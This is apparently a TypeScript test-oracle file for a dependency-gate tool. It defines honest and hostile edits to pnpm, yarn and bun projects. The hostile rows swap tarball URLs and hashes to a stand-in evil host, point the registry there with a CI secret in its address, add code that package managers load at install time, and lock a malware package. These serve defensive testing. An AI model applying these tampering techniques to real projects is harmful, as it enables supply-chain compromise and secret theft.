// Changes of projects of pnpm, yarn and bun by which a pass could be wrong, each refused, and honest ones that pass.

import { integrityOf } from '../../support/tarball.ts'
import { ask, print, type Edit, type Json, type State } from '../state.ts'
import type { Stage } from '../stage.ts'
import type { ManagerId, ManagerProgram } from './managers.ts'

/** An edit that knows which package manager it is for. */
export type ManagerEdit = (
  state: State,
  stage: Stage,
  program: ManagerProgram,
  relock: (state: State) => Promise<State>,
) => State | Promise<State>

export interface OracleRow {
  readonly name: string
  /** Those that have such a thing; all where it is absent. */
  readonly only?: readonly ManagerId[]
  /** To be refused, by the rule if one is named. */
  readonly attack?: ManagerEdit
  readonly rule?: string
  /** Why no install goes beyond what was judged. */
  readonly harmless?: string | Partial<Record<ManagerId, string>>
  /** To pass; what is then installed was judged. */
  readonly honest?: ManagerEdit
  /** `name@version` that the report lists. */
  readonly judged?: readonly string[]
}

/** The manifest of the base. */
export const manifest: Json = {
  name: 'app',
  version: '1.0.0',
  dependencies: { 'orc-foo': '1.0.0', 'orc-bar': '1.0.0', 'orc-native': '1.0.0' },
}

const edited =
  (edit: Edit): ManagerEdit =>
  (state, stage) =>
    edit(state, stage)
const relocked =
  (edit: Edit): ManagerEdit =>
  async (state, stage, _, relock) =>
    relock(await edit(state, stage))
const bump = relocked(ask('orc-foo', '1.0.1'))

/** The entry of a package in the file of each: from its key to the end of its lines. */
const entryOf: Readonly<Record<ManagerId, (name: string) => RegExp>> = {
  pnpm: (name) => new RegExp(`^  ${name}@1\\.0\\.\\d:\\n    resolution: \\{[^}]*\\}`, 'm'),
  classic: (name) => new RegExp(`^${name}@[^\\n]*:\\n(?:  [^\\n]*\\n)+`, 'm'),
  berry: (name) => new RegExp(`^"${name}@npm:[^\\n]*:\\n(?:  [^\\n]*\\n)+`, 'm'),
  bun: (name) => new RegExp(`^    "${name}": \\[[^\\n]*\\],$`, 'm'),
}

/** Rewrites the entry of a package in the lockfile. */
function rewrite(
  name: string,
  how: Readonly<Partial<Record<ManagerId, (entry: string, stage: Stage) => string>>>,
  first: ManagerEdit = (state) => state,
): ManagerEdit {
  return async (state, stage, program, relock) => {
    const now = await first(state, stage, program, relock)
    const text = String(now[program.lockfile])
    const changed = text.replace(
      entryOf[program.id](name),
      (entry) => how[program.id]?.(entry, stage) ?? entry,
    )
    if (changed === text) throw new Error(`nothing to rewrite for ${name} in:\n${text}`)
    return { ...now, [program.lockfile]: changed }
  }
}

const evilTarball = ({ evil }: Stage) => `${evil}orc-foo/-/orc-foo-1.0.1.tgz`
const archive = (entry: string, url: string) =>
  entry
    .replace(/(resolution: "orc-foo@npm:[\d.]+)"/, `$1::__archiveUrl=${encodeURIComponent(url)}"`)
    .replace(/ {2}checksum: .*\n/, '')

/** What the hostile host serves there. */
const evilHash = ({ makeTarball }: Stage) =>
  integrityOf(makeTarball('evil:orc-foo@1.0.1', 'orc-foo', '1.0.1', 'postinstall'))
/** bun's entry with another address and hash. */
const bunAt = (entry: string, url: string, hash: string) =>
  entry.replace(/"[^"]*", (\{.*\}), "[^"]*"\],$/, `"${url}", $1, "${hash}"],`)
const classicAt = (entry: string, url: string, hash: string) =>
  entry.replace(/resolved ".*"/, `resolved "${url}"`).replace(/integrity .*/, `integrity ${hash}`)
const pnpmAt = (entry: string, url: string, hash: string) =>
  entry.replace(/\{.*\}/, `{integrity: ${hash}, tarball: ${url}}`)

/** Address and hash of another host. */
const swapped = rewrite(
  'orc-foo',
  {
    pnpm: (entry, stage) => pnpmAt(entry, evilTarball(stage), evilHash(stage)),
    classic: (entry, stage) => classicAt(entry, evilTarball(stage), evilHash(stage)),
    berry: (entry, stage) => archive(entry, evilTarball(stage)),
    bun: (entry, stage) => bunAt(entry, evilTarball(stage), evilHash(stage)),
  },
  bump,
)

/** The bytes of another package of the registry under an honest name. */
const newTarball = ({ registry }: Stage) => `${registry}orc-new/-/orc-new-1.0.0.tgz`
const another = rewrite('orc-foo', {
  pnpm: (entry, stage) => pnpmAt(entry, newTarball(stage), stage.integrityOf('orc-new', '1.0.0')),
  classic: (entry, stage) => classicAt(entry, newTarball(stage), stage.integrityOf('orc-new', '1.0.0')),
  berry: (entry, stage) => archive(entry, newTarball(stage)),
  bun: (entry, stage) => bunAt(entry, newTarball(stage), stage.integrityOf('orc-new', '1.0.0')),
})

/** The field by which each takes another package in the place of one that is asked for. */
const override =
  (value: (stage: Stage) => string): ManagerEdit =>
  (state, stage, { id }) => {
    const json = JSON.parse(String(state['package.json'])) as Json
    const rules = { 'orc-leaf': value(stage) }
    const field =
      id === 'pnpm'
        ? { pnpm: { overrides: rules } }
        : id === 'bun'
          ? { overrides: rules }
          : { resolutions: rules }
    return { ...state, 'package.json': print({ ...json, ...field }) }
  }
const evilLeaf = ({ evil }: Stage) => `${evil}orc-leaf/-/orc-leaf-1.2.0.tgz`
const leaves = (what: string) =>
  `require('fs').appendFileSync(process.env.ORACLE_MARKS, 'evil:${what} load\\n')\n`

/** Settings by which each asks another registry, with a secret in its address. */
const redirect: ManagerEdit = async (state, stage, program, relock) => {
  const now = await bump(state, stage, program, relock)
  const to = `${stage.evil}\${CI_SECRET}/`
  const files: Record<ManagerId, State> = {
    pnpm: { '.npmrc': `registry=${to}\n` },
    classic: { '.npmrc': `registry=${to}\n`, '.yarnrc': `registry "${stage.evil}"\n` },
    berry: { '.yarnrc.yml': String(now['.yarnrc.yml']).replace(/Server: .*/, `Server: "${to}"`) },
    bun: { 'bunfig.toml': `[install]\nregistry = "${stage.evil}$CI_SECRET/"\n` },
  }
  return { ...now, ...files[program.id] }
}

/** Code that the package manager itself loads. */
const loaded: ManagerEdit = async (state, stage, program, relock) => {
  const now = await bump(state, stage, program, relock)
  const files: Record<ManagerId, State> = {
    pnpm: { '.pnpmfile.cjs': `${leaves('pnpmfile')}module.exports = {}\n` },
    classic: { '.yarnrc': `${String(now['.yarnrc'])}yarn-path "./run.cjs"\n`, 'run.cjs': leaves('path') },
    berry: { '.yarnrc.yml': `${String(now['.yarnrc.yml'])}yarnPath: ./run.cjs\n`, 'run.cjs': leaves('path') },
    bun: {
      'bunfig.toml': `preload = ["./run.cjs"]\n${String(now['bunfig.toml'])}`,
      'run.cjs': leaves('preload'),
    },
  }
  return { ...now, ...files[program.id] }
}

export const oracleRows: readonly OracleRow[] = [
  { name: 'an update', honest: bump, judged: ['orc-foo@1.0.1'] },
  {
    name: 'a new package and one that moves to development',
    honest: relocked(ask('orc-peer', '1.0.0', 'devDependencies')),
    judged: ['orc-peer@1.0.0'],
  },
  { name: 'address and hash of another host', attack: swapped, rule: 'source' },
  { name: 'address and hash of another package', attack: another },
  {
    name: 'a manifest that asks for an address, the lockfile untouched',
    attack: edited(ask('orc-foo', evilTarball)),
    rule: 'out-of-sync',
  },
  {
    name: 'a manifest that asks for a new package, the lockfile untouched',
    attack: edited(ask('orc-new', '1.0.0')),
    rule: 'out-of-sync',
  },
  { name: 'an override of a URL, the lockfile untouched', attack: override(evilLeaf), rule: 'out-of-sync' },
  {
    name: 'a registry with a secret in its address',
    attack: redirect,
    rule: 'tampering',
    harmless: 'depgate itself is on trial here: whom it asks, and with what',
  },
  {
    name: 'code that the package manager loads',
    attack: loaded,
    rule: 'install-code',
    harmless: { bun: 'it preloads for what it runs, and an install without scripts runs nothing' },
  },
  {
    name: 'malware, locked',
    attack: relocked(ask('orc-malware', '1.0.0')),
    rule: 'malware',
    harmless: 'what npm installs is what was judged: the advisory refuses it',
  },
  {
    name: 'a checksum of another cache key over another package',
    only: ['berry'],
    attack: rewrite('orc-foo', {
      berry: (entry) => entry.replace(/checksum: .*/, `checksum: 9/${'a'.repeat(128)}`),
    }),
    rule: 'integrity',
    harmless: 'the registry of the oracle serves honest bytes: yarn compares none',
  },
  {
    name: 'a commit that only the third element names',
    only: ['bun'],
    attack: (state, { git }) => {
      const [first, second] = git.commits
      const spec = `${git.url}#${first}`
      const entry = `"orc-git": ["orc-git@${spec}", {}, "${second}"],`
      const json = JSON.parse(String(state['package.json'])) as Json
      const dependencies = { ...(json.dependencies as Json), 'orc-git': spec }
      return {
        ...state,
        'package.json': print({ ...json, dependencies }),
        'bun.lock': String(state['bun.lock'])
          .replace(/("dependencies": \{\n)/, `$1        "orc-git": "${spec}",\n`)
          .replace(/("packages": \{\n)/, `$1    ${entry}\n\n`),
      }
    },
  },
]
